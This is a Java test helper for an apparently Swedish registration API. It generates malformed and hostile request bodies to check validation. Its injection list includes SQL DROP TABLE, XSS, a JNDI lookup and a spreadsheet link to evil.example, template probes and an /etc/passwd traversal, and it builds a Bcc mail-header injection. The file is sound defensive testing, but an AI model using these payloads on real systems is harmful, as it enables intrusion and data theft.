package se.samverka.api;

import jakarta.json.Json;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generated hostile request bodies: a valid body with one field replaced by a value that must be refused
 * (a wrong JSON type, a null in a list, a text over its column or with control characters, a date outside
 * any calendar Samverka plans in, an unknown choice, a number out of range, a required field left out),
 * and texts that are hostile only in meaning (SQL, markup, template and path injections, odd Unicode),
 * which must be stored and shown back exactly as given.
 */
final class HostileInput {

    /** What a field holds, with its limit where it has one. */
    enum Kind { ONE_LINE, MULTI_LINE, EMAIL, CHOICE, DATE, DATE_TIME, TIME, WHOLE_NUMBER, YES_NO, ID_LIST, DATE_LIST, TEXT_MAP }

    /** One field of a body: its JSON name, kind, limit (characters, or the smallest number), whether it is required. */
    record Field(String name, Kind kind, int limit, boolean required) {
    }

    /** A body and why it must be refused (its field, and what was done to it). */
    record Case(String field, String what, String body) {
        @Override
        public String toString() {
            return field + " (" + what + "): " + (body.length() > 300 ? body.substring(0, 300) + "…" : body);
        }
    }

    static final List<String> INJECTIONS = List.of(
            "Robert'); DROP TABLE registration;--", "' OR '1'='1", "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../../etc/passwd",
            "=HYPERLINK(\"http://evil.example\")", "@SUM(A1)", "Åsa-Märta Ölund", "李小龙", "\u202Egnp.exe",
            "Zoë \uD83D\uDE00 Ünal", "a\u0301\u0301\u0301", "%00%0d%0a", "\\\\server\\share", "null", "undefined",
            "\"quoted\"", "ﷺ", "Ǆ");

    /** Control characters that a one-line field must refuse (a line break would let a mail header in). */
    private static final List<String> CONTROLS_ONE_LINE = List.of("\r\n", "\n", "\r", "\u0000", "\t", "\u0007",
            "\u001b[31m", "\u2028", "\u0085", "\u007f");
    /** Control characters that a multi-line field must refuse (line breaks it keeps). */
    private static final List<String> CONTROLS_MULTI_LINE = List.of("\u0000", "\u0007", "\u001b[31m", "\u0085",
            "\u007f", "\u000b", "\u000c");

    private HostileInput() {
    }

    /** One kind of refused value for a field, with every value of that kind (raw JSON; null: the field left out). */
    record Category(String what, List<String> values) {
    }

    /**
     * The valid body with one field made hostile, for every field and every kind of refused value of that field
     * (each {@link Category}), with up to {@code perCategory} different values of each kind: every kind of hostile
     * input on every field in each run, where drawing bodies at random left some out. Which values (and where a
     * control character goes, how long a long text is) the seeded random chooses.
     */
    static List<Case> cases(Map<String, String> valid, List<Field> fields, int perCategory, Random random) {
        List<Case> cases = new ArrayList<>();
        for (Field field : fields) {
            for (Category category : categories(field, random)) {
                List<String> values = new ArrayList<>(category.values());
                Collections.shuffle(values, random);
                for (String value : values.subList(0, Math.min(perCategory, values.size()))) {
                    Map<String, String> body = new LinkedHashMap<>(valid);
                    if (value == null) {
                        body.remove(field.name());
                    } else {
                        body.put(field.name(), value);
                    }
                    cases.add(new Case(field.name(), category.what(), json(body)));
                }
            }
        }
        return cases;
    }

    /** The kinds of value this field must refuse, each with all its values. */
    static List<Category> categories(Field field, Random random) {
        List<Category> categories = new ArrayList<>();
        categories.add(new Category("wrong type", wrongTypes(field.kind())));
        if (field.required()) {
            categories.add(new Category("left out", Collections.singletonList(null)));
            categories.add(new Category("null", List.of("null")));
        }
        switch (field.kind()) {
            case ONE_LINE, EMAIL -> {
                categories.add(new Category("too long", tooLong(field, random)));
                categories.add(new Category("control characters", CONTROLS_ONE_LINE.stream()
                        .map(control -> text(withControl(random, "Anna", control, true))).toList()));
                if (field.kind() == Kind.EMAIL) {
                    categories.add(new Category("not an address", texts("a@b", "x@@y.example", "<a@b.example>",
                            "a b@c.example", "a@b.example, c@d.example", "@example.org", "anna")));
                }
            }
            case MULTI_LINE -> {
                categories.add(new Category("too long", tooLong(field, random)));
                categories.add(new Category("control characters", CONTROLS_MULTI_LINE.stream()
                        .map(control -> text(withControl(random, "Vegetarisk\nUtan nötter", control, false))).toList()));
            }
            case CHOICE -> categories.add(new Category("unknown choice", texts("PARTY", "SCHOOL_X", "",
                    "FIRE_BRIGADE", "ORGANISER_", "ADMIN", "0", "\u0000")));
            case DATE -> categories.add(new Category("impossible date", texts("+999999999-12-01", "-000001-01-01",
                    "1899-12-31", "2200-01-01", "2031-02-30", "2031-13-01", "31/12/2031", "0000-01-01", "20310101",
                    "2031-1-1")));
            case DATE_TIME -> categories.add(new Category("impossible time", texts("+999999999-12-01T10:00",
                    "1899-12-31T10:00", "2200-01-01T00:00", "2031-02-30T10:00", "2031-05-06T25:00", "2031-05-06",
                    "2031-05-06 10:00", "yesterday")));
            case TIME -> categories.add(new Category("impossible time", texts("24:00", "12:60", "-01:00", "noon",
                    "1200", "12:00:00:00")));
            case WHOLE_NUMBER -> categories.add(new Category("out of range", List.of("99999999999", "-1",
                    "-2147483649", "1.5", "1e3", "4294967297", "-0.5")));
            case YES_NO -> categories.add(new Category("not yes or no", List.of("\"true\"", "1", "0", "\"x\"",
                    "\"yes\"", "[]")));
            case ID_LIST -> categories.add(new Category("bad ids", List.of("[null]", "[1,null]", "[\"12\"]", "[1.5]",
                    "[99999999999999999999]", "[-1]", "[987654321]", "[[1]]", many("1", 600))));
            case DATE_LIST -> categories.add(new Category("bad days", List.of("[null]", "[\"2031-02-30\"]",
                    "[\"+999999999-12-01\"]", "[\"1999-01-01\"]", "[1]", "[[\"2031-05-06\"]]", "[\"2199-01-01\"]")));
            case TEXT_MAP -> categories.add(new Category("bad answers", List.of("{\"1\":1}", "{\"1\":[\"a\"]}",
                    "{\"1\":{\"a\":\"b\"}}", "[\"a\"]", many("\"k%d\":\"v\"", 600).replace("[", "{").replace("]", "}"),
                    "{\"" + "k".repeat(200) + "\":\"v\"}")));
            default -> { }
        }
        return categories;
    }

    private static List<String> wrongTypes(Kind kind) {
        return switch (kind) {
            case ONE_LINE, MULTI_LINE, EMAIL, CHOICE, DATE, DATE_TIME, TIME -> List.of("123", "true", "[\"a\"]", "{\"a\":1}",
                    "12.5");
            case WHOLE_NUMBER -> List.of("\"12\"", "true", "[1]", "{}", "\"\"");
            case YES_NO -> List.of("\"false\"", "0", "[]", "{}", "\"\"");
            case ID_LIST, DATE_LIST -> List.of("\"1,2\"", "12", "{}", "true");
            case TEXT_MAP -> List.of("\"a\"", "12", "[]", "true");
        };
    }

    /** One character over the limit, and one to 3000 more. */
    private static List<String> tooLong(Field field, Random random) {
        return List.of(text(randomText(random, field.limit() + 1)),
                text(randomText(random, field.limit() + 2 + random.nextInt(3000))));
    }

    private static List<String> texts(String... values) {
        return Arrays.stream(values).map(HostileInput::text).toList();
    }

    /** Bodies that are no JSON object of any kind, or too big, or too deep: all of them. */
    static List<String> junk(Random random) {
        return List.of("", "{", "[".repeat(20_000) + "]".repeat(20_000), "{\"a\":".repeat(5000) + "1" + "}".repeat(5000),
                "null", "\"just text\"", "{\"firstName\":\"" + "x".repeat(300_000) + "\"}",
                new String(new char[] {0xFEFF, '[', ']'}), randomText(random, 1 + random.nextInt(200)));
    }

    static String json(Map<String, String> fields) {
        StringBuilder out = new StringBuilder("{");
        fields.forEach((name, raw) -> out.append(out.length() > 1 ? "," : "").append(text(name)).append(':').append(raw));
        return out.append('}').toString();
    }

    static String text(String value) {
        return Json.createValue(value).toString();
    }

    private static String many(String item, int count) {
        StringBuilder out = new StringBuilder("[");
        for (int i = 0; i < count; i++) {
            out.append(i > 0 ? "," : "").append(item.contains("%d") ? item.formatted(i) : item);
        }
        return out.append(']').toString();
    }

    private static String withControl(Random random, String around, String control, boolean oneLine) {
        int at = 1 + random.nextInt(around.length() - 1); // inside: at the ends it would only be stripped like a space
        return around.substring(0, at) + control + (oneLine && control.contains("\n") ? "Bcc: evil@example.org" : "")
                + around.substring(at);
    }

    /** A text of this length from an alphabet with quotes, markup characters, backslashes, å, € and 中. */
    private static String randomText(Random random, int length) {
        StringBuilder text = new StringBuilder(length);
        String alphabet = "abcåäöÅÄÖ 0123456789'\"<>&;-_\\/€😀中";
        while (text.length() < length) {
            int index = random.nextInt(alphabet.length());
            char c = alphabet.charAt(index);
            if (Character.isSurrogate(c)) {
                text.append("x");
            } else {
                text.append(c);
            }
        }
        text.setCharAt(0, 'x');
        text.setCharAt(text.length() - 1, 'x');
        return text.toString();
    }
}
